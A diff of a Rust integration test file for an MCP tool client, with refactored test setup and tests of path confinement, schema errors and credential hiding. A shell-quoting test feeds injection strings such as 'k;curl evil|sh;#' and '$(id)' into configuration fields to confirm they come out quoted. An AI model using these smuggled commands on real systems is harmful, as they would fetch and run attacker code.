@@ -1,6 +1,8 @@
 //! The tools: their configuration, their requests, and their advice.
 
 use std::process::Command;
+use std::thread;
+use std::time::{Duration, Instant};
 
 use nexus_sdk::testing::{DevGateway, Fault, Provider};
 use serde_json::{Value, json};
@@ -9,20 +11,27 @@ use crate::client::{Client, command};
 
 pub(crate) fn configured(gateway: &DevGateway) -> Command {
     let mut command = command();
-    command
-        .env("NEXUS_GATEWAY_URL", gateway.url())
-        .env("UPSTREAM_URL", gateway.url());
-    command
-        .env("WORKSPACE_ID", "it's mine")
-        .env("PROVIDER", "github");
+    command.env("NEXUS_GATEWAY_URL", gateway.url());
+    command.env("UPSTREAM_URL", gateway.url());
+    command.env("WORKSPACE_ID", "it's mine");
+    command.env("PROVIDER", "github");
     command
 }
 
-fn connected() -> (DevGateway, String, Client) {
-    let gateway = DevGateway::start().unwrap();
-    let connection = gateway.connect("it's mine", "github").unwrap();
+/// Waits until the gateway has received that many requests for a path.
+pub(crate) fn wait_for(gateway: &DevGateway, path: &str, count: usize) {
+    let start = Instant::now();
+    while gateway.count(path) < count {
+        assert!(start.elapsed() < Duration::from_secs(20));
+        thread::sleep(Duration::from_millis(1));
+    }
+}
+
+fn connected() -> (DevGateway, Client) {
+    let gateway = DevGateway::builder().connection("it's mine", "github");
+    let gateway = gateway.start().unwrap();
     let client = Client::start(&mut configured(&gateway)).begin("2025-11-25");
-    (gateway, connection, client)
+    (gateway, client)
 }
 
 #[test]
@@ -60,7 +69,7 @@ fn wrong_configuration_is_one_clear_line() {
 
 #[test]
 fn the_tools_return_what_the_api_says() {
-    let (gateway, _, mut client) = connected();
+    let (gateway, mut client) = connected();
     let listed = client.ask("tools/list", json!({}))["result"]["tools"].take();
     assert_eq!(listed.as_array().unwrap().len(), 4);
     let repos = client.text("list_repos", &json!({"limit": 2})).unwrap();
@@ -106,7 +115,7 @@ fn a_tool_writes() {
 /// `tests/sdk/base_url.rs` shows which paths lead out of the API.
 #[test]
 fn a_path_does_not_leave_the_api() {
-    let (gateway, _, mut client) = connected();
+    let (gateway, mut client) = connected();
     let own = format!("{}/user", gateway.url());
     let (relative, refused) = ("must begin with a slash", "invalid_input: url: ");
     for (path, expected) in [
@@ -170,21 +179,21 @@ fn failures_say_what_to_do() {
 #[cfg(unix)]
 #[test]
 fn a_command_in_an_advice_is_quoted_for_a_shell() {
-    for word in [
+    let words = [
         "k;curl evil|sh;#",
         "$(id) `id`",
         "-x",
         r#"it's "\*?~&>{a,b}"#,
         "a\tb",
-    ] {
+    ];
+    let missing = r#"{"error": "connection_not_found"}"#;
+    for word in words {
         let gateway = DevGateway::start().unwrap();
-        let missing = r#"{"error": "connection_not_found"}"#;
         let missing = Fault::reply(404, "application/json", missing);
         gateway.fail_next_at("/v1/resolve", 1, missing);
         let mut command = configured(&gateway);
-        command
-            .env("CONNECT", "off")
-            .env("SCOPES", "-y k;curl|sh;#");
+        command.env("CONNECT", "off");
+        command.env("SCOPES", "-y k;curl|sh;#");
         command.env("WORKSPACE_ID", word).env("PROVIDER", word);
         let mut client = Client::start(&mut command).begin("2025-11-25");
         let problem = client.user().unwrap_err();
@@ -200,7 +209,7 @@ fn a_command_in_an_advice_is_quoted_for_a_shell() {
 
 #[test]
 fn responses_that_do_not_fit_a_tools_schema_are_errors() {
-    let (gateway, _, mut client) = connected();
+    let (gateway, mut client) = connected();
     let responses = [
         ("list_repos", "", "is not JSON"),
         ("list_repos", "<html>", "is not JSON"),
@@ -218,7 +227,7 @@ fn responses_that_do_not_fit_a_tools_schema_are_errors() {
 
 #[test]
 fn a_body_that_is_not_utf_8_is_described() {
-    let (gateway, _, mut client) = connected();
+    let (gateway, mut client) = connected();
     let latin = "text/html; charset=iso-8859-1";
     for (content_type, shown) in [(latin, latin), ("", "none")] {
         gateway.fail_next_at("/user", 1, Fault::reply(200, content_type, b"caf\xe9"));
@@ -248,7 +257,7 @@ fn a_model_does_not_place_the_credential() {
 /// `tests/sdk/hide.rs` shows which credentials are hidden.
 #[test]
 fn no_response_holds_a_credential() {
-    let (gateway, _, mut client) = connected();
+    let (gateway, mut client) = connected();
     assert!(client.user().is_ok());
     let sent = gateway.requests().pop().unwrap().headers["authorization"].clone();
     let token = sent.to_str().unwrap().trim_start_matches("Bearer ");
@@ -265,7 +274,7 @@ fn no_response_holds_a_credential() {
 #[cfg(target_os = "linux")]
 #[test]
 fn the_locks_are_below_home() {
-    let (gateway, _, _) = connected();
+    let (gateway, _) = connected();
     let home = std::env::temp_dir().join(format!("nexus-mcp-{}", std::process::id()));
     std::fs::create_dir(&home).unwrap();
     let mut command = configured(&gateway);
